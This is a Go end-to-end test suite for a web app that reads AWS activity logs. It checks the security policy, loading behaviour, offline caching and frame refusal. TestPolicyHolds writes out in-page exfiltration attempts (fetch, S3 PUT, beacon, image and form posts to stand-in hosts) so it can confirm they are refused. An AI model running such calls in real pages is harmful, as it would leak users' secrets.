package e2e_test

import (
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"trailsleuth/app/e2e"
	"trailsleuth/app/trail"
)

func TestMain(m *testing.M) { os.Exit(e2e.Main(m)) }

// get asks a host for a file as any client would.
func get(t *testing.T, url string) (*http.Response, *html.Node) {
	t.Helper()
	answer, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	document, err := html.Parse(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	return answer, document
}

// directives splits a policy into its directives by name.
func directives(policy string) map[string][]string {
	byName := map[string][]string{}
	for directive := range strings.SplitSeq(policy, ";") {
		words := strings.Fields(directive)
		byName[words[0]] = words[1:]
	}
	return byName
}

func TestSecurityPolicy(t *testing.T) {
	page := e2e.Open(t, e2e.World{Host: e2e.HeaderHost})
	page.WaitRunning()
	answer, document := get(t, page.Host.URL)
	var head *html.Node
	for n := range document.Descendants() {
		if n.Data == "head" {
			head = n
		}
	}
	first := map[string]string{}
	for _, a := range head.FirstChild.Attr {
		first[a.Key] = a.Val
	}
	if first["http-equiv"] != "Content-Security-Policy" {
		t.Fatalf("the head begins with <%s %v>, not with the policy", head.FirstChild.Data, first)
	}
	want := []string{"'self'"}
	for _, region := range trail.Regions() {
		want = append(want, "https://"+region.Host())
	}
	for where, policy := range map[string]string{"page": first["content"], "header": answer.Header.Get("Content-Security-Policy")} {
		if got := directives(policy)["connect-src"]; !slices.Equal(got, want) {
			t.Errorf("the %s lets the page connect to %v, want %v", where, got, want)
		}
		for _, loose := range []string{"unsafe-inline", "'unsafe-eval'", "*", "http:", "https: "} {
			if strings.Contains(policy, loose) {
				t.Errorf("the %s's policy has %s", where, loose)
			}
		}
	}
	if got := directives(answer.Header.Get("Content-Security-Policy"))["frame-ancestors"]; !slices.Equal(got, []string{"'none'"}) {
		t.Errorf("the header's frame-ancestors is %v", got)
	}
	allowed := []string{"allow-scripts", "allow-same-origin", "allow-downloads", "allow-forms"}
	if got := directives(answer.Header.Get("Content-Security-Policy"))["sandbox"]; !slices.Equal(got, allowed) {
		t.Errorf("the header's sandbox is %v, want %v", got, allowed)
	}
}

// unlessRefused takes it for done that nothing was refused.
var unlessRefused = fmt.Sprintf(`setTimeout(() => done("done"), %d)`, (e2e.Patience / 2).Milliseconds())

// TestPolicyHolds tries from inside the page what the policy must prevent.
func TestPolicyHolds(t *testing.T) {
	attempts := map[string]string{
		"ErrOtherHost":     `fetch("https://example.com/?secret").then(() => "done", () => "refused")`,
		"ErrBucket":        `fetch("https://bucket.s3.amazonaws.com/", {method: "PUT", body: "secret"}).then(() => "done", () => "refused")`,
		"ErrMarkup":        `(() => { try { document.body.innerHTML += "<b></b>"; return "done" } catch { return "refused" } })()`,
		"ErrEval":          `new Promise(done => { setTimeout(() => { try { (0, eval)("1"); done("done") } catch { done("refused") } }) })`,
		"ErrOtherPolicy":   `(() => { try { trustedTypes.createPolicy("other", {}); return "done" } catch { return "refused" } })()`,
		"ErrForeignWorker": `(() => { try { new Worker("other.js"); return "done" } catch { return "refused" } })()`,
		"ErrInlineScript": `(() => { const s = document.createElement("script"); try { s.text = "window.ran = 1" } catch { return "refused" }
			document.head.append(s); return window.ran ? "done" : "refused" })()`,
		"ErrInlineStyle": `(() => { document.body.setAttribute("style", "outline-width: 7px");
			return getComputedStyle(document.body).outlineWidth === "7px" ? "done" : "refused" })()`,
		"ErrBeacon": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
			try { navigator.sendBeacon("https://example.com/", "secret") } catch { done("refused") } ` + unlessRefused + ` })`,
		"ErrImage": `new Promise(done => { const i = new Image(); i.onload = () => done("done"); i.onerror = () => done("refused");
			i.src = "https://example.com/?secret" })`,
		"ErrForm": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
			const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); try { f.submit() } catch { done("refused") }
			` + unlessRefused + ` })`,
	}
	for name, attempt := range attempts {
		t.Run(name, func(t *testing.T) {
			page := e2e.Open(t, e2e.World{})
			page.WaitRunning()
			for _, part := range []string{"policy: ", "Content Security Policy", "TrustedHTML", "TrustedScript", "trusted-types", "Refused to", "violates"} {
				page.Allow(part)
			}
			var outcome string
			page.Eval(attempt, &outcome)
			if outcome != "refused" {
				t.Errorf("the attempt was %s", outcome)
			}
		})
	}
}

func TestFirstPaint(t *testing.T) {
	var release func()
	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) { release = h.Hold(".wasm") }})
	page.Find("heading", "Who did what in your AWS account, in the last 90 days.")
	page.Find("region", "Credentials")
	page.Eval(`(() => { window.shifts = []; new PerformanceObserver(list => shifts.push(...list.getEntries().map(e => e.value)))
		.observe({type: "layout-shift", buffered: true}) })()`, nil)
	page.Screenshot("before")
	page.Type("textbox", "Access key ID", "ASIAEXAMPLE")
	page.Type("textbox", "Session token", "typed before the program")
	page.Eval(`document.activeElement.setSelectionRange(6, 12)`, nil)
	page.Eval(`window.early = document.getElementById("page")`, nil)
	release()
	page.WaitRunning()
	page.Wait("the program's own elements", `document.getElementById("page") !== window.early`)
	if got := page.Find("textbox", "Access key ID").Value(); got != "ASIAEXAMPLE" {
		t.Errorf("the access key id is now %q", got)
	}
	if got := page.Find("textbox", "Session token").Value(); got != "typed before the program" {
		t.Errorf("the token is now %q", got)
	}
	var selected, kept string
	page.Eval(`(() => { const e = document.activeElement; return e.value?.slice(e.selectionStart, e.selectionEnd) ?? e.localName })()`, &selected)
	if selected != "before" {
		t.Errorf("the focus and the selection are gone: %q is selected", selected)
	}
	page.Eval(`[...window.early.querySelectorAll("input, textarea")].map(e => e.value).join("")`, &kept)
	if kept != "" {
		t.Errorf("the fields that were replaced still hold %q", kept)
	}
	page.Screenshot("after")
	var shift float64
	page.Eval(`new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(shifts.reduce((a, b) => a + b, 0)))))`, &shift)
	if shift >= 0.01 {
		t.Errorf("the page moved by %.4f while it was loading", shift)
	}
}

// TestSameTree compares what was drawn beforehand with what the program
// mounts: any difference would be seen as a jump or heard twice. What is
// hidden may differ, and so may the text of the progress.
func TestSameTree(t *testing.T) {
	var release func()
	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) { release = h.Hold(".wasm") }})
	tree := func() (lines []string) {
		page.Eval(`(() => { const lines = []; const walk = (n, depth) => {
			if (n.nodeType === 3) { if (n.data) lines.push(" ".repeat(depth) + JSON.stringify(n.data)); return }
			lines.push(" ".repeat(depth) + n.localName + " " + [...n.attributes].filter(a => a.name !== "style").map(a => a.name + "=" + JSON.stringify(a.value)).sort().join(" "));
			if (n.id !== "app-wasm-loader-label" && !n.hidden) n.childNodes.forEach(c => walk(c, depth + 1)) };
			walk(document.getElementById("page"), 0); return lines })()`, &lines)
		return lines
	}
	drawn := tree()
	page.Eval(`window.early = document.getElementById("page")`, nil)
	release()
	page.WaitRunning()
	page.Wait("the program's own elements", `document.getElementById("page") !== window.early`)
	mounted := tree()
	for i := range min(len(drawn), len(mounted)) {
		if drawn[i] != mounted[i] {
			t.Fatalf("line %d was drawn as\n%s\nand is mounted as\n%s", i, drawn[i], mounted[i])
		}
	}
	if len(drawn) != len(mounted) {
		t.Errorf("%d nodes were drawn, %d are mounted", len(drawn), len(mounted))
	}
}

func TestEarlyPress(t *testing.T) {
	var release func()
	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) { release = h.Hold(".wasm") }})
	page.Click("button", "Use the sample account")
	if got := page.Find("button", "Use the sample account").Attribute("aria-busy"); got != "true" {
		t.Errorf("the pressed button does not say that it is at work: aria-busy=%q", got)
	}
	release()
	page.WaitRunning()
	page.Find("button", "Leave the sample account")
}

func TestBasePath(t *testing.T) {
	for _, at := range []string{"", "index.html", "?x=1", "#q"} {
		t.Run(at, func(t *testing.T) {
			page := e2e.Open(t, e2e.World{Base: "/some/base/"})
			page.WaitRunning()
			if at == "" {
				return
			}
			page.Go(page.Host.URL + at)
			page.WaitRunning()
			page.Find("region", "Credentials")
		})
	}
}

func TestNotFound(t *testing.T) {
	page := e2e.Open(t, e2e.World{Host: e2e.HeaderHost})
	answer, document := get(t, page.Host.URL+"no/such/page")
	if answer.StatusCode != http.StatusNotFound {
		t.Errorf("the status is %s", answer.Status)
	}
	links := 0
	for n := range document.Descendants() {
		if n.Data == "a" {
			links++
		}
	}
	if links != 1 {
		t.Errorf("the page has %d links, want the one back", links)
	}
}

func TestOffline(t *testing.T) {
	for name, host := range map[string]e2e.Host{"PlainHost": e2e.PlainHost, "HeaderHost": e2e.HeaderHost} {
		t.Run(name, func(t *testing.T) {
			page := e2e.Open(t, e2e.World{Host: host, Base: "/some/base/"})
			page.WaitRunning()
			page.Eval(`navigator.serviceWorker.ready`, nil)
			page.Wait("the worker to take over", `navigator.serviceWorker.controller`)
			page.Host.Stop()
			page.Reload()
			page.WaitRunning()
			page.Find("region", "Credentials")
			var kept []string
			page.Eval(`caches.keys().then(names => Promise.all(names.map(n => caches.open(n).then(c => c.keys())))).then(lists => lists.flat().map(r => r.url))`, &kept)
			if len(kept) < 5 {
				t.Errorf("only %d files are kept", len(kept))
			}
			for _, url := range kept {
				if !strings.HasPrefix(url, page.Host.URL) {
					t.Errorf("%s is kept, which is no file of the site", url)
				}
			}
		})
	}
}

func TestBundle(t *testing.T) {
	gone := http.NotFound
	forged := func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte("\x00asm\x01\x00\x00\x00")) }
	cases := map[string]struct {
		part   string
		answer http.HandlerFunc
		says   string // "" if the program runs all the same
	}{
		"OKWithoutGzip":  {".wasm.gz", gone, ""},
		"OKDamagedGzip":  {".wasm.gz", func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte("\x1f\x8b\x08garbage")) }, ""},
		"ErrMissing":     {".wasm", gone, "The program is missing on this host (status 404)."},
		"ErrForged":      {".wasm", forged, "not the one this page was built with"},
		"ErrHTMLInstead": {".wasm", func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte("<!doctype html>")) }, "not the one this page was built with"},
		"ErrCutOff": {".wasm", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Length", "1000000")
			w.Write(make([]byte, 1000))
			panic(http.ErrAbortHandler)
		}, "the connection to this site is lost"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) { h.Answer(c.part, c.answer) }})
			page.Allow("Failed to load resource")
			if c.says == "" {
				page.WaitRunning()
				return
			}
			page.WaitText(c.says)
			page.WaitText("Reload the page to try again.")
			page.Screenshot("failed")
			page.Host.Answer(c.part, nil)
			page.Reload()
			page.WaitRunning()
		})
	}
}

func TestFramed(t *testing.T) {
	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) {
		h.Answer("/frame", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			// Without an icon of its own the browser would ask for /favicon.ico.
			w.Write([]byte(`<!doctype html><link rel="icon" href="data:,"><iframe id="f" src="./" width="900" height="600"></iframe>`))
		})
	}})
	page.Go(page.Host.URL + "frame")
	page.Wait("the refusal", `document.getElementById("f").contentDocument?.body?.innerText.includes("does not run inside another page")`)
	var usable int
	page.Eval(`document.getElementById("f").contentDocument.querySelectorAll("input:enabled, textarea:enabled, button:enabled").length`, &usable)
	if usable != 0 {
		t.Errorf("%d controls can be used in a frame", usable)
	}
}

// TestClosedForm: where boot.js does not run, nobody can type keys.
func TestClosedForm(t *testing.T) {
	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) {
		h.Answer("/frame", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte(`<!doctype html><link rel="icon" href="data:,"><iframe id="f" sandbox="allow-same-origin allow-forms" src="./"></iframe>`))
		})
	}})
	page.Allow("Blocked script execution")
	page.Go(page.Host.URL + "frame")
	page.Wait("the page in the frame", `document.getElementById("f").contentDocument?.querySelector("#paste")`)
	var usable int
	page.Eval(`document.getElementById("f").contentDocument.querySelectorAll("input:enabled, textarea:enabled, select:enabled, button:enabled").length`, &usable)
	if usable != 0 {
		t.Errorf("%d controls can be used where no script runs", usable)
	}
}

// TestStopped: when the program ends, the page must not look alive.
func TestStopped(t *testing.T) {
	page := e2e.Open(t, e2e.World{})
	page.WaitRunning()
	page.Allow("exit code")
	page.Allow("Go program has already exited") // to timers that were set before
	page.Eval(`goappNav()`, nil)                // go-app panics: the argument is missing
	page.WaitText("Trailsleuth stopped because of an error of its own. Reload the page to go on.")
	page.Screenshot("stopped")
}
